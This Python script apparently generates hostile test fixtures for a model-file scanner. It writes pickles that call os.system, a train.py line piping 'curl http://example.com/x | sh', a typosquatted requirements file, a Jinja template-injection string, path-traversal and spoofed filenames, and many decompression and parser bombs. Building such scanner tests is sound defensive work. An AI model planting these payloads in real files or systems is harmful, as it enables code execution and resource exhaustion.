"""Files that want to hurt a scanner, for the suite `scan`.

    scan_hostile.py reports FOLDER         a folder with something for each part of a report
    scan_hostile.py bombs FOLDER           small files that ask for much memory or time
    scan_hostile.py claims FOLDER SEED...  the same files, with sizes and counts made large

Nothing is loaded. `bombs` prints a JSON list of [NAME, WHETHER IT MUST NOT BE CLEAN].
"""

import bz2
import io
import json
import lzma
import pathlib
import struct
import sys
import tarfile
import zipfile
import zlib

MIB = 1 << 20
ZEROS = bytes(MIB)
CALL = b"cos\nsystem\n(S'id'\ntR."
HUGE = struct.pack("<Q", 1 << 63)


# --- a folder for reports ----------------------------------------------------------------------


def reports(folder):
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as out:
        out.writestr("inner/data.pkl", CALL)
        out.writestr("../../out", b"words\n")
    files = {
        "bad.pkl": CALL,
        "same bytes.pkl": CALL,
        "inner.zip": archive.getvalue(),
        "models/n\u00e4me 100% #1?.pkl": CALL,
        "models/\u202ekcab.pkl": CALL,
        "models/line\nbreak.pkl": CALL,
        "models/-dash.json": b'{"auto_map": {"AutoModel": "modeling.Model"}}',
        "requirements.txt": b"--extra-index-url http://example.com/\nrequests\nreqeusts==1.0\n",
        "chat_template.jinja": b"{{ ''.__class__.__mro__[1].__subclasses__() }}\n",
        "train.py": b"import os\nos.system('curl http://example.com/x | sh')\n",
        "odd.bin": b"\xc1\x03\x81\x02\x00\x93" * 100,
        "cut.safetensors": struct.pack("<Q", 1000) + b'{"a":',
        "empty": b"",
        "good.json": b'{"layers": 2}\n',
        "README.md": b"# a model\n",
    }
    for name, content in files.items():
        path = pathlib.Path(folder, name)
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content)
    pathlib.Path(folder, "away").symlink_to("/nonexistent/model.pkl")


# --- packed ------------------------------------------------------------------------------------


def members(pack, mib):
    """As many packed mebibytes of zeros, one after the other in one file."""
    return pack(ZEROS * 16) * (mib // 16)


def gzip(content):
    # What `gzip.compress` writes has a time in it.
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    return packer.compress(content) + packer.flush()


def times(pack, content, count):
    for _ in range(count):
        content = pack(content)
    return content


def zipped(entries, method=zipfile.ZIP_DEFLATED):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, content in entries:
            archive.writestr(zipfile.ZipInfo(name), content, method)
    return out.getvalue()


def overlapping(count, mib):
    """COUNT entries of a zip archive that share one packed stream."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    body = b"".join(packer.compress(ZEROS) for _ in range(mib)) + packer.flush()
    crc = 0
    for _ in range(mib):
        crc = zlib.crc32(ZEROS, crc)
    sizes = struct.pack("<III", crc, len(body), mib * MIB)
    local = b"PK\3\4\x14\0\0\0\x08\0\0\0\0\0" + sizes + struct.pack("<HH", 1, 0) + b"a" + body
    central = b"".join(
        b"PK\1\2\x14\0\x14\0\0\0\x08\0\0\0\0\0" + sizes + struct.pack("<HHHHHII", 5, 0, 0, 0, 0, 0, 0)
        + b"%05d" % n
        for n in range(count)
    )
    end = struct.pack("<HHHHIIH", 0, 0, count, count, len(central), len(local), 0)
    return local + central + b"PK\5\6" + end


def tree(depth, width):
    """A zip archive of archives of archives, each WIDTH times in the next."""
    content = zipped([("0", ZEROS * 4)])
    for _ in range(depth):
        content = zipped([(f"{n}.zip", content) for n in range(width)])
    return content


def zip64(count):
    """A zip archive that claims COUNT entries."""
    record = struct.pack("<QHHIIQQQQ", 44, 45, 45, 0, 0, count, count, count, 0)
    locator = b"PK\6\7" + struct.pack("<IQI", 0, 0, 1)
    end = b"PK\5\6" + struct.pack("<HHHHIIH", 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)
    return b"PK\6\6" + record + locator + end


def tar(entries):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.PAX_FORMAT) as archive:
        for name, size, headers in entries:
            info = tarfile.TarInfo(name)
            info.size = size
            info.pax_headers = headers
            out.write(info.tobuf(tarfile.PAX_FORMAT))
    return out.getvalue()


# --- pickles -----------------------------------------------------------------------------------


def pickle(body, protocol=4):
    return b"\x80" + bytes([protocol]) + body + b"."


def laughs(levels):
    """Lists of ten times the list before."""
    body = b"]q\0"
    for n in range(levels):
        body += b"](" + b"h" + bytes([n]) + (b"h" + bytes([n])) * 9 + b"eq" + bytes([n + 1])
    return pickle(body, 2)


def buried(levels):
    """A call in a pickle in a pickle."""
    content = CALL
    for _ in range(levels):
        content = pickle(b"B" + struct.pack("<I", len(content)) + content)
    return content


def pickles():
    many = 1 << 20
    yield "laughs.pkl", laughs(100), False
    yield "doubled-tuples.pkl", pickle(b"N" + b"2\x86" * many), False
    yield "tuples-in-tuples.pkl", pickle(b")" + b"\x85" * many), False
    yield "marks.pkl", pickle(b"(" * (4 * many)), True
    yield "memo.pkl", pickle(b"]" + b"\x94" * (4 * many)), False
    yield "memo-far.pkl", pickle(b"Nr\xff\xff\xff\xff"), False
    yield "memo-spread.pkl", pickle(b"".join(b"Nr" + struct.pack("<I", n * 4099) for n in range(many // 4))), False
    yield "stacked.pkl", b"N." * many, False
    yield "calls.pkl", b"cos\nsystem\n(S'id'\ntR0" * (many // 4) + b"N.", True
    yield "globals.pkl", b"".join(b"ca%d\nb\n0" % n for n in range(many // 8)) + b"N.", False
    yield "buried.pkl", buried(1000), True
    yield "text.pkl", pickle(b"\x8d" + HUGE + b"ab"), True
    yield "bytes.pkl", pickle(b"\x8e" + HUGE + b"ab"), True
    yield "array.pkl", pickle(b"\x96" + HUGE + b"ab", 5), True
    yield "frame.pkl", pickle(b"\x95" + HUGE + b"N"), False
    yield "number.pkl", pickle(b"\x8b\xff\xff\xff\x7fab"), True
    yield "digits.pkl", b"I" + b"9" * (4 * many) + b"\n.", False
    yield "extension.pkl", pickle(b"\x84\xff\xff\xff\x7f"), False
    yield "duplicates.pkl", pickle(b"N" + b"2" * (4 * many)), False
    # A text, as far as any loader goes: no module has that name.
    yield "line.pkl", b"c" + b"a" * (4 * many), False
    yield "steps.pkl", pickle(b"cos\n" + b"path.os." * many + b"system\n)R"), True


# --- all ---------------------------------------------------------------------------------------


def nested():
    """Text and trees that open and do not close."""
    many = 1 << 20
    yield "arrays.json", b"[" * (4 * many), True
    yield "objects.json", b'{"a":' * many, True
    yield "closed.json", b"[" * many + b"]" * many, True
    yield "elements.xml", b"<a>" * many, False
    yield "entities.xml", entities(), True
    yield "flow.yaml", b"a: " + b"[" * many, False
    yield "aliases.yaml", aliases(), False
    yield "brackets.py", b"import os\nx = " + b"(" * many, False
    yield "not.py", b"import os\nx = " + b"not " * many + b"1\n", False
    yield "brackets.jinja", b"{{ " + b"(" * many + b" }}", False
    yield "blocks.jinja", b"{% if a %}" * (many // 8), False
    yield "arrays.msgpack", b"\x91" * (4 * many), True
    yield "messages.onnx", messages(20_000), False
    yield "header.safetensors", HUGE + b"{}", True
    yield "deep.safetensors", headed(b'{"a":' + b"[" * many), True
    yield "many.safetensors", wide(), True
    yield "counts.gguf", b"GGUF\3\0\0\0" + HUGE + HUGE, True
    yield "strings.gguf", b"GGUF\3\0\0\0" + bytes(8) + b"\1" + bytes(7) + HUGE, True
    yield "arrays.gguf", gguf_arrays(), True
    yield "shape.npy", npy(b"(%d, %d)" % (10**18, 10**18)), True
    yield "brackets.npy", npy(b"(" * 60_000), True
    yield "line.jsonl", b'{"text": "' + b"A" * (16 * many) + b'"}\n', False
    yield "base64.txt", b"QUFB" * (4 * many) + b"\n", False
    yield "columns.csv", b"," * (4 * many) + b"\n", False
    yield "lines-requirements.txt", b"".join(b"a%d\n" % n for n in range(100_000)), False
    yield "requirements.txt", b"-r requirements.txt\n" * 100_000, False


def entities():
    text = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a0 "lol">'
    for n in range(60):
        text += b'<!ENTITY a%d "%s">' % (n + 1, b"&a%d;" % n * 10)
    return text + b"]><a>&a60;</a>"


def aliases():
    text = b"a0: &a0 [x]\n"
    for n in range(60):
        text += b"a%d: &a%d [%s]\n" % (n + 1, n + 1, b",".join([b"*a%d" % n] * 10))
    return text


def messages(levels):
    """A field of a field of a field, in the wire format of protobuf."""
    content = b""
    for _ in range(levels):
        size, rest = b"", len(content)
        while rest > 0x7F:
            size, rest = size + bytes([rest & 0x7F | 0x80]), rest >> 7
        content = b"\x3a" + size + bytes([rest]) + content
    return b"\x08\x07" + content


def headed(header):
    return struct.pack("<Q", len(header)) + header


def wide():
    entry = b'"t%d":{"dtype":"U8","shape":[0],"data_offsets":[0,0]}'
    return headed(b"{" + b",".join(entry % n for n in range(200_000)) + b",}")


def gguf_arrays():
    """Arrays of arrays of arrays."""
    array = struct.pack("<IQ", 9, 1)
    head = b"GGUF\3\0\0\0" + struct.pack("<QQ", 0, 1) + struct.pack("<Q", 1) + b"a" + struct.pack("<I", 9)
    return head + array * 100_000


def npy(shape):
    header = b"{'descr': '<f8', 'fortran_order': False, 'shape': " + shape + b", }\n"
    return b"\x93NUMPY\1\0" + struct.pack("<H", len(header)) + header


def packed():
    once = members(gzip, 1024)
    yield "gzip.gz", once, True
    yield "gzip-twice.gz", gzip(once), True
    yield "gzip-many.gz", times(gzip, b"words\n", 200), True
    yield "bzip2.bz2", members(bz2.compress, 512), True
    yield "xz.xz", members(lambda content: lzma.compress(content, preset=0), 512), True
    yield "lzma.lzma", b"\x5d" + b"\xff\xff\xff\xff" + b"\xff" * 8 + bytes(100), True
    yield "zstd.zst", b"\x28\xb5\x2f\xfd\xe0\xf8" + HUGE[:7] + b"\x7f" + b"\3\0\x40ab", True
    yield "zlib.z", zlib.compress(ZEROS * 64, 9), True
    yield "flat.zip", zipped([(f"{n}", ZEROS * 32) for n in range(16)]), True
    yield "overlapping.zip", overlapping(10_000, 16), True
    yield "tree.zip", tree(6, 10), True
    yield "count.zip", zip64((1 << 63) - 1), True
    yield "members.zip", zipped([(f"{n}", b"") for n in range(120_000)]), True
    yield "size.tar", tar([("a", 0, {"size": str(1 << 62)})]), True
    yield "members.tar.gz", gzip(tar([(f"{n}", 0, {}) for n in range(120_000)])), True
    yield "name.gz", b"\x1f\x8b\x08\x08" + bytes(6) + b"a" * (4 * MIB), True


def bombs(folder):
    told = []
    for group in (packed, pickles, nested):
        for name, content, refused in group():
            pathlib.Path(folder, name).write_bytes(content)
            told.append([name, refused])
    json.dump(told, sys.stdout)


# --- claims of size ----------------------------------------------------------------------------


def claims(folder, seeds):
    """Each of the first and last bytes of real files made large in turn, with those that follow."""
    for number, seed in enumerate(map(pathlib.Path, seeds)):
        content = seed.read_bytes()
        end = len(content)
        places = {*range(0, min(end, 192), 4), *range(max(end - 64, 0), end, 8)}
        for at in sorted(places):
            for large in (b"\xff" * 4, b"\xff" * 7 + b"\x7f"):
                changed = (content[:at] + large + content[at + len(large) :])[:end]
                name = f"{number}-{at}-{len(large)}{seed.suffix}"
                pathlib.Path(folder, name).write_bytes(changed)


def main():
    match sys.argv[1:]:
        case ["reports", folder]:
            reports(folder)
        case ["bombs", folder]:
            bombs(folder)
        case ["claims", folder, *seeds]:
            claims(folder, seeds)
        case _:
            sys.exit(__doc__)


if __name__ == "__main__":
    main()
